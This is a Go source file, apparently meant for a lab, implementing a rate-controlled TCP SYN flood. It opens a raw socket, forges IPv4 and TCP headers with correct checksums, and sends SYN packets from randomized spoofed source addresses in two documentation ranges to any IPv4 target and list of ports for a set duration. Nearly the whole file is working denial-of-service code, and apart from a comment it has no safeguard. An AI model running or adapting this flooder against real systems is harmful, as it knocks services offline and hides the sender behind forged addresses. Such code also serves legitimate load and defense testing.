package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"syscall"
	"time"
)

// sources are the spoofed senders: two documentation /24s, 512 addresses,
// none of them the lab's client (198.51.100.1).
var sourceNets = [][4]byte{{192, 0, 2, 0}, {203, 0, 113, 0}}

func run(dst string, ports []uint16, pps int, dur time.Duration) (int, error) {
	to, err := netip.ParseAddr(dst)
	if err != nil || !to.Is4() {
		return 0, fmt.Errorf("-dst %q: want an IPv4 address", dst)
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return 0, fmt.Errorf("raw socket (needs root): %w", err)
	}
	defer syscall.Close(fd)
	sa := &syscall.SockaddrInet4{Addr: to.As4()}
	var pkt [40]byte
	sent := 0
	start := time.Now()
	// Send in 1 ms batches, each topping the count up to the schedule.
	for {
		el := time.Since(start)
		if el >= dur {
			return sent, nil
		}
		due := int(el.Seconds() * float64(pps))
		// At most 10 ms of packets per batch, so that a sender that falls
		// behind still stops on time.
		due = min(due, sent+pps/100+1)
		for ; sent < due; sent++ {
			n := sourceNets[rand.IntN(len(sourceNets))]
			n[3] = byte(2 + rand.IntN(250))
			build(pkt[:], n, to.As4(), uint16(1024+rand.IntN(60000)), ports[rand.IntN(len(ports))], rand.Uint32())
			if err := syscall.Sendto(fd, pkt[:], 0, sa); err != nil && err != syscall.ENOBUFS && err != syscall.EPERM {
				return sent, err
			}
		}
		time.Sleep(time.Millisecond)
	}
}

// build writes an IPv4 header and a TCP SYN with correct checksums.
func build(b []byte, src, dst [4]byte, sport, dport uint16, seq uint32) {
	b[0], b[1] = 0x45, 0
	binary.BigEndian.PutUint16(b[2:], 40)
	binary.BigEndian.PutUint16(b[4:], uint16(seq))
	b[6], b[7], b[8], b[9] = 0x40, 0, 64, syscall.IPPROTO_TCP
	b[10], b[11] = 0, 0
	copy(b[12:16], src[:])
	copy(b[16:20], dst[:])
	binary.BigEndian.PutUint16(b[10:], csum(b[:20], 0))
	t := b[20:40]
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dport)
	binary.BigEndian.PutUint32(t[4:], seq)
	binary.BigEndian.PutUint32(t[8:], 0)
	t[12], t[13] = 5<<4, 0x02 // SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	t[16], t[17], t[18], t[19] = 0, 0, 0, 0
	var pseudo uint32
	pseudo += uint32(src[0])<<8 | uint32(src[1])
	pseudo += uint32(src[2])<<8 | uint32(src[3])
	pseudo += uint32(dst[0])<<8 | uint32(dst[1])
	pseudo += uint32(dst[2])<<8 | uint32(dst[3])
	pseudo += syscall.IPPROTO_TCP + 20
	binary.BigEndian.PutUint16(t[16:], csum(t, pseudo))
}

func csum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
